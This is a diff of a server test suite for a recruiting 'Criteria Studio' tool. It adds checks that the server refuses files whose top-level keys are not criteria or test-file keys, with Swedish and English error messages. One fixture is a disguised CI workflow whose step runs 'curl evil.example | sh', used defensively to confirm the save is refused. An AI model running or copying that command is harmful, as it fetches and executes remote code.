@@ -109,7 +109,8 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     expect(existsSync(join(s.folder, 'newdir'))).toBe(false)
     // What the page needs still works: a criteria file with errors (work in progress), its test
     // file, a new test file beside its criteria file, three folders deep.
-    const wip = CRITERIA.replace('required: true', 'requird: true').replace('fields:', 'feilds:')
+    // (A misspelt key at the top is refused since the hostile review: see "a criteria file's top-level keys" below.)
+    const wip = CRITERIA.replace('required: true', 'requird: true').replace('contact:', 'kontakt:')
     expect((await s.put('job.yaml', wip)).status).toBe(200)
     expect(s.text('job.yaml')).toBe(wip)
     expect((await s.put('job.test.yaml', 'cases: [] # none yet\n')).status).toBe(200)
@@ -118,6 +119,57 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     expect((await s.put('a/b/c/job.yaml', CRITERIA)).status).toBe(200)
     expect((await s.put('a/b/c/job.test.yaml', TESTS)).status).toBe(200)
     expect(s.text('a/b/c/job.test.yaml')).toBe(TESTS)
+  })
+
+  it("a criteria file's top-level keys are all criteria-file keys, exactly, with id and one of job, fields, criteria; a test file's likewise (the hostile review of #20)", async () => {
+    const s = await setup()
+    mkdirSync(join(s.folder, 'sub1'))
+    // A CI workflow with an id: every key within two letters of a criteria key, once saved (200).
+    const workflow = '{"jobs":{"evil":{"runs-on":"x","steps":[{"run":"curl evil.example | sh"}]}},"on":["push"],"id":"x"}'
+    const r = await s.put('sub1/settings.json', workflow)
+    expect([r.status, r.code]).toEqual([422, 'unknown_key'])
+    expect(JSON.parse(r.body).error).toMatchObject({ kind: 'criteria', keys: ['jobs', 'on'], nearest: ['job', ''] })
+    expect(existsSync(join(s.folder, 'sub1/settings.json'))).toBe(false)
+    for (const body of ['{"jobs":{},"id":"x"}', '{"id":"x","job":{},"fields":{},"on":1}', '{"ID":"x","job":{}}']) {
+      expect((await s.put('sub1/settings.json', body)).code, body).toBe('unknown_key')
+      expect(existsSync(join(s.folder, 'sub1/settings.json')), body).toBe(false)
+    }
+
+    // A misspelt top-level key in the recruiter's own file: refused, naming the key and the one meant, in sv and en.
+    const typo = await s.put('job.yaml', CRITERIA.replace('fields:', 'feilds:'))
+    expect([typo.status, typo.code]).toEqual([422, 'unknown_key'])
+    const error = JSON.parse(typo.body).error
+    expect(error).toMatchObject({ keys: ['feilds'], nearest: ['fields'] })
+    expect(error.message).toMatch(/^the key "feilds" \(did you mean "fields"\?\) is not a criteria file key \(\$schema, format, id, .*\): nothing was written; fix it and save again$/)
+    expect(s.text('job.yaml')).toBe(CRITERIA)
+    const { code: _code, message: _message, ...details } = error
+    expect(errorText({ code: 'unknown_key', status: 422, details }, 'sv')).toMatch(/^Nyckeln "feilds" \(menade du "fields"\?\) hör inte hemma överst i en kriteriefil, som har nycklarna .*\bfields\b.*\. Rätta den i editorn och spara igen\.$/)
+    expect(errorText({ code: 'unknown_key', status: 422, details }, 'en')).toMatch(/^The key "feilds" \(did you mean "fields"\?\) does not belong at the top of a criteria file, whose keys are .*\bfields\b.*\. Fix it in the editor and save again\.$/)
+    // Mended in the editor and saved again: it goes through.
+    expect((await s.put('job.yaml', `${CRITERIA}# mended\n`)).status).toBe(200)
+
+    // The keys that make a criteria file: id, and one of job, fields, criteria.
+    for (const body of ['{"id":"x"}', '{"job":{"title":"t"},"fields":{}}', '{"$schema":"x","version":1,"locale":"en"}']) {
+      const n = await s.put('sub1/new.json', body)
+      expect([n.status, n.code], body).toEqual([422, 'not_criteria'])
+    }
+    expect(existsSync(join(s.folder, 'sub1/new.json'))).toBe(false)
+    expect((await s.put('sub1/new.json', '{"id":"x","job":{}}')).status).toBe(200) // a start, to be filled in
+    expect(errorText({ code: 'not_criteria', status: 422 }, 'sv')).toMatch(/minst nycklarna id och job, fields eller criteria/)
+
+    // Test files: their own keys (criteria, now, cases), exactly, with cases.
+    const badTest = await s.put('job.test.yaml', 'criteria: job.yaml\ncase: []\n')
+    expect([badTest.code, JSON.parse(badTest.body).error.keys, JSON.parse(badTest.body).error.nearest]).toEqual(['unknown_key', ['case'], ['cases']])
+    expect((await s.put('job.test.yaml', 'criteria: job.yaml\nnow: arrival\n')).code).toBe('not_test_file')
+    expect((await s.put('job.test.yaml', 'cases: []\nname: CI\n')).code).toBe('unknown_key')
+    expect(s.text('job.test.yaml')).toBe(TESTS)
+    expect((await s.put('job.test.yaml', 'criteria: job.yaml\ncases: []\n')).status).toBe(200)
+
+    // A file on disk with a misspelt key is still the recruiter's to mend in the studio; another tool's file is not.
+    writeFileSync(join(s.folder, 'sub1/typo.yaml'), CRITERIA.replace('criteria:', 'critera:'))
+    expect((await s.put('sub1/typo.yaml', CRITERIA)).status).toBe(200)
+    writeFileSync(join(s.folder, 'sub1/workflow.yaml'), 'on: push\njobs: {}\n')
+    expect((await s.put('sub1/workflow.yaml', CRITERIA)).code).toBe('exists_not_criteria')
   })
 
   it('refuses files with more than one link, for reading and writing, and checks the real path at the moment of writing', async () => {
